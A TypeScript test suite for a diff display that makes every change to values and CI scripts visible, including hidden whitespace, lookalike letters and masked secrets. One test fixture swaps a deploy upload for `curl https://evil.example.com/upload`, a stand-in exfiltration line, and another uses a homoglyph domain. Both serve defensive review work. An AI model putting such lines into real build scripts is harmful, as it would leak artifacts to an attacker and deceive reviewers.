/** Tests that every difference of two values is shown, whatever they are. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isSameJson, UNKNOWN } from "../../diff/values.js";
import { describeForm, makePrintable } from "../../text/safe-text.js";
import { formatBlockLines, formatValueLines, Phrase, showChange } from "../../text/shown-change.js";
import { SECRET } from "../automation/events.js";
import { pair, value } from "../reports/format-values.js";

/** On one line if there are two values, else as a block. */
const shown = (before: unknown, after: unknown) => {
  const change = showChange(before, after);
  if ("said" in change) return change.said;
  return "before" in change ? `${change.before} → ${change.after}` : formatBlockLines(change).join("\n");
};
const script = (host: string, more: readonly string[] = []) =>
  [
    "set -e",
    "npm ci",
    "npm test",
    "tar -czf dist.tgz dist",
    `curl https://${host}/upload`,
    "echo done",
    ...more,
  ].join("\n");

/** What is printed of each side. */
function sidesOf(before: unknown, after: unknown): [string, string] {
  const change = showChange(before, after);
  if ("said" in change) return ["", change.said];
  if ("before" in change) return [change.before, change.after];
  const of = (sign: string) => change.lines.filter((line) => !"+-".replace(sign, "").includes(line.sign));
  const text = (sign: string) =>
    of(sign)
      .map((line) => `${line.text}$`)
      .join("\n");
  return [text("-"), text("+")];
}

describe("a change", () => {
  it("of a script shows the line that differs, two lines around it, and counts the others", () => {
    expect(
      shown(script("deploy.example.com", ["exit 0", "", ""]), script("evil.example.com", ["exit 0", "", ""])),
    ).toMatchInlineSnapshot(`
      "@@ 2 unchanged lines @@
        npm test
        tar -czf dist.tgz dist
      - curl https://deploy.example.com/upload
      + curl https://evil.example.com/upload
        echo done
        exit 0
        "
    `);
  });

  it.each([
    [
      "one character far inside a line",
      `${"x".repeat(5000)}a${"y".repeat(5000)}`,
      `${"x".repeat(5000)}b${"y".repeat(5000)}`,
    ],
    ["a blank at the end", "npm test\nexit", "npm test \nexit"],
    ["a blank at the end of a line", "npm test", "npm test "],
    ["the line endings", "a\nb\n", "a\r\nb\r\n"],
    ["the last line break", "a\nb", "a\nb\n"],
    ["a tab", "a\n\tb", "a\n        b"],
    ["a form of Unicode", "caf\u00e9", "cafe\u0301"],
    ["a letter of another script", "https://example.com\nx", "https://ex\u0430mple.com\nx"],
    ["a character without width", "a\nb", "a\nb\u200b"],
    ["empty and missing", undefined, ""],
    ["empty and null within a list", [""], [null]],
    ["a number and its text", 1, "1"],
    ["the order of a list", ["a", "b", "c"], ["c", "a", "b"]],
    ["a map in a list", [{ name: "A", value: "1\n2" }], [{ name: "A", value: "1\n3" }, { name: "B" }]],
    ["a text and what is not known yet", "(known later)", UNKNOWN],
    ["a text and a list", "a\nb", ["a\nb"]],
    ["what is not there, and a script", undefined, "a\nb"],
    ["what is not shown", new Phrase("(not shown)"), "(not shown)"],
    ["a secret that is set", undefined, SECRET],
  ])("of %s", (_, before, after) => {
    expect(shown(before, after)).toMatchSnapshot();
    const [one, other] = sidesOf(before, after);
    expect(describeForm(one)).not.toBe(describeForm(other));
  });

  it("of secrets says that they change", () => {
    expect(shown(SECRET, SECRET)).toBe("[secret, changed]");
    expect(shown(SECRET, { deep: [SECRET] })).toBe("[secret, changed]");
  });

  it("distinguishes a string from the words that it looks like, at any depth", () => {
    const [texts, words] = [
      ["[secret]", "(known later)"],
      [SECRET, UNKNOWN],
    ];
    expect(shown(texts[0], words[0])).toBe('"[secret]" → [secret]');
    expect(formatValueLines({ texts, words })).toEqual([
      ...["texts:", '  - "[secret]"', '  - "(known later)"'],
      ...["words:", "  - [secret]", "  - (known later)"],
    ]);
    expect(shown([texts[1]], [words[1]])).toBe('["(known later)"] → [(known later)]');
    expect(formatValueLines(["words1", UNKNOWN])).toEqual(["- words1", "- (known later)"]);
  });

  it("never prints alike, in a terminal or in the log of a CI system", () => {
    fc.assert(
      fc.property(pair, ([before, after]) => {
        if (isSameJson(before, after)) return;
        const sides = sidesOf(before, after).map((side) => makePrintable(side, { colors: false, ci: true }));
        expect(sides[0]).not.toBe(sides[1]);
        // What tells them apart is no control character, blank or other form of a letter.
        expect(describeForm(sides[0] ?? "")).not.toBe(describeForm(sides[1] ?? ""));
      }),
      { numRuns: 1000 },
    );
  });

  it("shows every line that is removed or added, whole", () => {
    const line = fc.string({ unit: "grapheme-ascii", maxLength: 150 }).map((text) => `x${text}`.trim());
    // None begins like a command of a CI system, which would be quoted.
    const lines = fc.array(fc.oneof(fc.constantFrom("a", "b", "c"), line), { minLength: 2, maxLength: 30 });
    fc.assert(
      fc.property(lines, lines, (before, after) => {
        fc.pre(before.join("\n") !== after.join("\n"));
        const change = showChange(before.join("\n"), after.join("\n"), { context: Infinity });
        if (!("lines" in change)) throw new Error("no lines");
        const of = (sign: string) => change.lines.filter((one) => one.sign === " " || one.sign === sign);
        expect(of("-").map(({ text }) => text)).toEqual(before);
        expect(of("+").map(({ text }) => text)).toEqual(after);
      }),
    );
  });

  it("shows the whole part of a long line that differs", () => {
    const part = fc
      .string({ unit: "grapheme-ascii", minLength: 1, maxLength: 300 })
      .map((text) => text.replaceAll(/["\\]/g, "x"));
    fc.assert(
      fc.property(part, part, fc.nat({ max: 300 }), (one, other, times) => {
        const around = (text: string) => `${"<".repeat(times)}(${text})${">".repeat(times)}`;
        const text = shown(around(one), around(other));
        if (one !== other) expect(text).toContain(`(${one})`.slice(0, 300));
        if (one !== other) expect(text.length).toBeLessThan(one.length + other.length + 200);
      }),
    );
  });

  it("of large texts takes a limited time", () => {
    const lines = Array.from({ length: 40_000 }, (_, index) => `line ${index} of a text`);
    const all = lines.join("\n");
    expect(shown(all, all.replace("line 20000 ", "line x "))).toContain("+ line x of a text");
    expect(shown(all, lines.toReversed().join("\n"))).toContain("+ line 39999 of a text");
    expect(shown("\n".repeat(1e5), "\r\n".repeat(1e5))).toContain('+ "\\r"');
    expect(shown("x".repeat(1e6), `${"x".repeat(5e5)}y${"x".repeat(5e5)}`).length).toBeLessThan(120);
  });
});

describe("the lines of a value", () => {
  it("are YAML, with secrets masked and nothing that controls a terminal", () => {
    expect(
      formatValueLines({
        name: "Build",
        commands: ["set -e\nnpm ci\n", "echo \u001b[31m"],
        token: SECRET,
        later: UNKNOWN,
      }),
    ).toMatchInlineSnapshot(`
      [
        "name: Build",
        "commands:",
        "  - |",
        "    set -e",
        "    npm ci",
        "  - "echo \\e[31m"",
        "token: [secret]",
        "later: (known later)",
      ]
    `);
    fc.assert(
      fc.property(value, (one) => {
        const text = formatValueLines(one).join("\n");
        expect(makePrintable(text, { colors: false, ci: true })).toBe(text.replaceAll("\r\n", "\n"));
      }),
    );
  });
});
